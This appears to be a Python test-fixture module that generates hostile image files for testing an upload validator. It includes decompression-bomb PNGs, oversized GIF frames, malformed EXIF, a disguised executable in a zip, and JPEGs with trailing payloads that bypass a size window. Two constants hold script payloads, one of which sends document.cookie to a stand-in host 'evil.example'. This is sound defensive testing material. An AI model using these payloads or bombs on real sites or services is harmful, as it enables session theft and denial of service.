"""Generators of hostile (and honest but demanding) image files, built in the test, no blobs.

Large files are produced strip by strip (PNG rows, TIFF strips) so that making a file whose
pixels would take hundreds of MB takes little memory in the test process.
"""

from __future__ import annotations

import io
import os
import struct
import zlib

from PIL import Image

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"


def noisy(size, mode="RGB") -> Image.Image:
    """Random pixels: the entropy-coded data looks like a real photograph's."""
    bands = len(Image.new(mode, (1, 1)).getbands())
    return Image.frombytes(mode, size, os.urandom(size[0] * size[1] * bands))


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def noisy_jpeg(size=(48, 32), mode="RGB", **options) -> bytes:
    return encode(noisy(size, mode), "JPEG", quality=90, **options)


def photo_jpeg(size) -> bytes:
    """A large JPEG made without holding random pixels: smooth gradients plus a little noise."""
    grey = Image.linear_gradient("L").resize(size)
    noise = Image.effect_noise(size, 20)
    return encode(
        Image.merge("RGB", (grey, noise, grey.transpose(Image.Transpose.FLIP_LEFT_RIGHT))),
        "JPEG",
        quality=88,
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_bomb(
    width: int, height: int, *, colour_type: int = 2, depth: int = 8, palette: bool = False
) -> bytes:
    """A complete, valid PNG of ``width`` x ``height`` black pixels, a few hundred KB at most.

    Colour type 2 is RGB, 6 RGBA, 0 greyscale, 3 palette. Every row is there: the file decodes
    entirely, it is its decoded size that is hostile.
    """
    bands = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    row = b"\x00" * (1 + (width * bands * depth + 7) // 8)
    squeeze = zlib.compressobj(9)
    rows_per_batch = max(1, (1 << 20) // len(row))
    parts = []
    for y in range(0, height, rows_per_batch):
        parts.append(squeeze.compress(row * min(rows_per_batch, height - y)))
    parts.append(squeeze.flush())
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    chunks = png_chunk(b"IHDR", header)
    if colour_type == 3:
        chunks += png_chunk(b"PLTE", b"\x00\x00\x00\xff\xff\xff")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunks
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A few hundred bytes whose header promises ``width`` x ``height`` pixels (data far too short)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" * 1024, 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )


def png(size=(32, 32), colour=(200, 10, 10), **options) -> bytes:
    return encode(Image.new("RGB", size, colour), "PNG", **options)


# --- TIFF ------------------------------------------------------------------------------------------


def tiff(
    width: int,
    height: int,
    strip,
    *,
    samples: int = 3,
    bits: int = 16,
    deflate: bool = True,
    photometric: int | None = None,
    rows_per_strip: int = 64,
    icc: bytes | None = None,
    pages: int = 1,
) -> bytes:
    """A little-endian baseline TIFF. ``strip(y0, y1)`` returns the raw little-endian samples of
    rows ``y0..y1``; strips are deflate-compressed (Adobe deflate) unless ``deflate`` is False."""
    if photometric is None:
        photometric = 1 if samples in (1, 2) else 2
    out = bytearray(b"II*\x00\x00\x00\x00\x00")
    previous_link = 4
    for _page in range(pages):
        offsets, counts = [], []
        for y0 in range(0, height, rows_per_strip):
            raw = strip(y0, min(height, y0 + rows_per_strip))
            data = zlib.compress(raw, 6) if deflate else raw
            offsets.append(len(out))
            counts.append(len(data))
            out += data
            if len(out) % 2:
                out += b"\x00"

        def place(raw: bytes, out: bytearray = out) -> int:
            at = len(out)
            out.extend(raw)
            if len(out) % 2:
                out.append(0)
            return at

        entries = [
            (256, 4, 1, width),
            (257, 4, 1, height),
            (
                258,
                3,
                samples,
                place(struct.pack(f"<{samples}H", *[bits] * samples)) if samples > 2 else bits,
            ),
            (259, 3, 1, 8 if deflate else 1),
            (262, 3, 1, photometric),
            (
                273,
                4,
                len(offsets),
                place(struct.pack(f"<{len(offsets)}I", *offsets))
                if len(offsets) > 1
                else offsets[0],
            ),
            (277, 3, 1, samples),
            (278, 4, 1, rows_per_strip),
            (
                279,
                4,
                len(counts),
                place(struct.pack(f"<{len(counts)}I", *counts)) if len(counts) > 1 else counts[0],
            ),
            (284, 3, 1, 1),
        ]
        if samples in (2, 4) and photometric != 5:
            entries.append((338, 3, 1, 2))  # unassociated alpha
        if icc:
            entries.append((34675, 7, len(icc), place(icc)))
        ifd = len(out)
        struct.pack_into("<I", out, previous_link, ifd)
        out += struct.pack("<H", len(entries))
        for tag, kind, count, value in sorted(entries):
            if kind == 3 and count == 1:
                out += struct.pack("<HHIHH", tag, kind, count, value, 0)
            elif kind == 3 and count == 2:
                out += struct.pack("<HHIHH", tag, kind, count, value, value)
            else:
                out += struct.pack("<HHII", tag, kind, count, value)
        previous_link = len(out)
        out += b"\x00\x00\x00\x00"
    return bytes(out)


def rgb16_strip(width: int, value=(40000, 20000, 1000)):
    """Rows of one 16-bit colour (red 40000 -> 8-bit 156, green 20000 -> 78, blue 1000 -> 4)."""
    pixel = struct.pack("<3H", *value)

    def strip(y0: int, y1: int) -> bytes:
        return pixel * (width * (y1 - y0))

    return strip


def grey16_strip(width: int, value: int = 40000):
    def strip(y0: int, y1: int) -> bytes:
        return struct.pack("<H", value) * (width * (y1 - y0))

    return strip


# --- GIF and WebP ----------------------------------------------------------------------------------


def _gif_frame(size) -> bytes:
    """The image descriptor and data of a one-colour GIF frame of ``size`` (from Pillow's encoder)."""
    data = encode(Image.new("P", size, 0), "GIF")
    start = data.index(b"\x2c", 13)
    return data[start:-1]  # up to, not including, the trailer


def gif_with_huge_frame(screen=(100, 100), huge=(8000, 8000), small_frames: int = 2) -> bytes:
    """A GIF whose screen is small but whose last frame is huge (Pillow grows the canvas to it)."""
    out = (
        b"GIF89a"
        + struct.pack("<HHBBB", screen[0], screen[1], 0x80, 0, 0)
        + b"\x00\x00\x00\xff\xff\xff"
    )
    for size in [screen] * small_frames + [huge]:
        out += b"\x21\xf9\x04\x04\x0a\x00\x00\x00" + _gif_frame(size)
    return out + b"\x3b"


def animated(fmt: str, size, frames: int, **options) -> bytes:
    images = [Image.new("RGB", size, (40 * i % 256, 90, 160)) for i in range(frames)]
    return encode(images[0], fmt, save_all=True, append_images=images[1:], **options)


def zip_bytes() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", b"MZ" + os.urandom(256), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def jpeg_with_bad_exif() -> bytes:
    """A JPEG whose EXIF block points its IFD far outside the block (a malformed EXIF)."""
    body = b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 0x7FFFFFF0) + b"\x00" * 8
    segment = b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body
    data = noisy_jpeg((64, 48))
    return data[:2] + segment + data[2:]


def jpeg_over(size: int, tail: bytes) -> bytes:
    """A real JPEG over ``size`` bytes, then ``tail`` (the issue's bypass: past the old 64 KB window)."""
    side = 64
    while True:
        data = noisy_jpeg((side, side))
        if len(data) > size:
            return data + tail
        side *= 2
